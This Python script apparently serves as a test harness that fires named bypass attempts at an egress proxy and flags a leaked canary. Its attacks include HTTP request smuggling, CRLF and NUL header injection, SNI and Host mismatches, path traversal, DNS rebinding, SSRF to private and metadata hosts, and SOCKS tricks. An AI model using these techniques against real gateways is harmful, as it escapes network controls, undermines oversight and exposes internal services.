"""An attack on the way out: through the gateway where programs are told of one, else as any program goes.

    gateway.py ATTACK

Prints what came back, and BITE when it was what the site gives to nobody who stays within the rules.
"""
import os
import socket
import ssl
import struct
import sys

TIME = 10
PORTS = {"http": 3128, "socks": 1080}
GATEWAY = "HTTP_PROXY" in os.environ
END = "Connection: close\r\n\r\n"


def tell(answer: bytes) -> None:
    text = answer.decode(errors="replace")
    print(text[:300].split("\r\n\r\n")[0])
    # Further answers on the same connection.
    for part in text.split("HTTP/1.1 ")[2:]:
        print("then", part[:3])
    if b"CANARY-" in answer:
        print("BITE")


def receive(connection) -> bytes:
    answer = b""
    try:
        while len(answer) < 1 << 16 and (part := connection.recv(4096)):
            answer += part
    except OSError as error:
        answer += f" {error}".encode()
    return answer


def direct(host: str, port: int):
    # What a C library makes of a name with a NUL in it.
    return socket.create_connection((host.split("\0")[0].strip("[]"), port), timeout=TIME)


def proxied(text: str, host: str, port=80, target=None):
    """A request in the form of a proxy, or in that of the site."""
    target = target or f"http://{host}{'' if port == 80 else f':{port}'}"
    with socket.create_connection(("127.0.0.1", PORTS["http"]), timeout=TIME) if GATEWAY else direct(host, port) as connection:
        connection.sendall(text.replace("TARGET", target if GATEWAY else "").encode())
        tell(receive(connection))


def get(host: str, port=80, path="/", named=None, target=None):
    named = named or host.replace("\0", "") + ("" if port == 80 else f":{port}")
    proxied(f"GET TARGET{path} HTTP/1.1\r\nHost: {named}\r\n{END}", host, port, target)


def tunnel(host: str, port: int):
    """A connection; None when it is refused."""
    if not GATEWAY:
        return direct(host, port)
    connection = socket.create_connection(("127.0.0.1", PORTS["http"]), timeout=TIME)
    connection.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
    head = b""
    while not head.endswith(b"\r\n\r\n") and (part := connection.recv(1)):
        head += part
    if b" 200 " in head:
        return connection
    print(head.decode(errors="replace"))
    return None


def through(host: str, port: int, text: bytes):
    if connection := tunnel(host, port):
        connection.sendall(text)
        tell(receive(connection) or b"closed")


def encrypted(host: str, name, request: str):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    connection = tunnel(host, 443)
    if connection is None:
        return
    try:
        with context.wrap_socket(connection, server_hostname=name) as tls:
            tls.sendall(request.encode())
            tell(receive(tls))
    except (ssl.SSLError, OSError) as error:
        print(f"refused: {error}")


def secure(host: str, method="GET", path="/", named=None, name=""):
    encrypted(host, host if name == "" else name, f"{method} {path} HTTP/1.1\r\nHost: {named or host}\r\n{END}")


def socks(host: bytes, port: int, command=1):
    request = f"GET / HTTP/1.1\r\nHost: {host.decode().split(chr(0))[0]}\r\n{END}".encode()
    if not GATEWAY:
        if command == 3:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
                datagrams.settimeout(TIME)
                datagrams.sendto(b"out", (host.decode(), port))
                return tell(datagrams.recv(4096))
        with direct(host.decode(), port) as connection:
            connection.sendall(request)
            return tell(receive(connection))
    with socket.create_connection(("127.0.0.1", PORTS["socks"]), timeout=TIME) as connection:
        connection.sendall(b"\5\1\0")
        connection.recv(2)
        connection.sendall(b"\5" + bytes([command]) + b"\0\3" + bytes([len(host)]) + host + struct.pack("!H", port))
        reply = connection.recv(64)
        if reply[1:2] != b"\0":
            return print(f"SOCKS refused: {reply[1:2].hex() or 'closed'}")
        connection.sendall(request)
        tell(b"open: " + receive(connection))


def smuggle(framing: str, body: str):
    """Two requests, of which one that believes the other length sees the second as a body."""
    proxied(f"POST TARGET/ HTTP/1.1\r\nHost: allowed.test\r\n{framing}\r\n{body}", "allowed.test")


HIDDEN = f"GET /secret HTTP/1.1\r\nHost: forbidden.test\r\n{END}"
CHUNKED = f"0\r\n\r\n{HIDDEN}"
ATTACKS = {
    "other-host": lambda: get("forbidden.test"),
    "other-port": lambda: get("allowed.test", 8080),
    "connect-other-host": lambda: through("forbidden.test", 443, b"x"),
    "connect-other-port": lambda: through("allowed.test", 8080, b"x"),
    "not-tls": lambda: through("allowed.test", 443, b"SSH-2.0-attack\r\n"),
    "longer-name": lambda: get("allowed.test.forbidden.test"),
    "prefixed-name": lambda: get("evilallowed.test"),
    "user-in-target": lambda: get("forbidden.test", target="http://allowed.test@forbidden.test"),
    "raw-address": lambda: get("1.0.0.1", path="/secret"),
    "raw-private": lambda: get("10.99.0.1"),
    "raw-v6": lambda: get("[fd99::1]", 8080),
    "private-name": lambda: get("private.test"),
    "metadata-name": lambda: get("metadata.test"),
    "mapped-name": lambda: get("mapped.test"),
    "loopback-name": lambda: get("loopback.test"),
    "redirect": lambda: (get("allowed.test", path="/to-private"), get("10.99.0.1")),
    "rebinding": lambda: [get("rebind.test") for _ in range(4)],
    "sni-mismatch": lambda: secure("allowed.test", name="forbidden.test"),
    "sni-missing": lambda: secure("allowed.test", path="/secret", name=None),
    "sni-mismatch-read": lambda: secure("api.test", name="forbidden.test"),
    "host-mismatch": lambda: get("allowed.test", named="forbidden.test"),
    "host-mismatch-read": lambda: secure("api.test", path="/v1/x", named="forbidden.test"),
    "two-hosts": lambda: proxied(
        f"GET TARGET/ HTTP/1.1\r\nHost: allowed.test\r\nHost: forbidden.test\r\n{END}", "allowed.test"),
    "path-outside": lambda: secure("api.test", path="/secret"),
    "path-dots": lambda: secure("api.test", path="/v1/../secret"),
    "path-encoded": lambda: secure("api.test", path="/v1/%2e%2e/secret"),
    "method": lambda: secure("api.test", method="DELETE", path="/v1/x"),
    "both-lengths": lambda: smuggle(f"Content-Length: {len(CHUNKED)}\r\nTransfer-Encoding: chunked\r\n", CHUNKED),
    "two-lengths": lambda: smuggle(f"Content-Length: 0\r\nContent-Length: {len(HIDDEN)}\r\n", HIDDEN),
    "odd-encoding": lambda: smuggle("Transfer-Encoding: xchunked\r\n", CHUNKED),
    "hidden-encoding": lambda: smuggle("Transfer-Encoding : chunked\r\n", CHUNKED),
    "folded-header": lambda: smuggle(f"X: y\r\n Host: forbidden.test\r\nContent-Length: 0\r\n", HIDDEN),
    "second-request": lambda: proxied(
        f"GET TARGET/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n{HIDDEN}", "allowed.test"),
    "line-in-target": lambda: get("allowed.test", path="/ HTTP/1.1\r\nHost: forbidden.test\r\n\r\nGET /"),
    "line-in-header": lambda: get("allowed.test", named="allowed.test\rHost: forbidden.test"),
    "nul-in-host": lambda: get("forbidden.test\0.allowed.test"),
    "nul-in-socks": lambda: socks(b"forbidden.test\0.allowed.test", 80),
    "socks-other-host": lambda: socks(b"forbidden.test", 80),
    "socks-datagram": lambda: socks(b"10.99.0.1", 443, command=3),
}

if __name__ == "__main__":
    try:
        ATTACKS[sys.argv[1]]()
    except OSError as error:
        print(f"error: {error}")
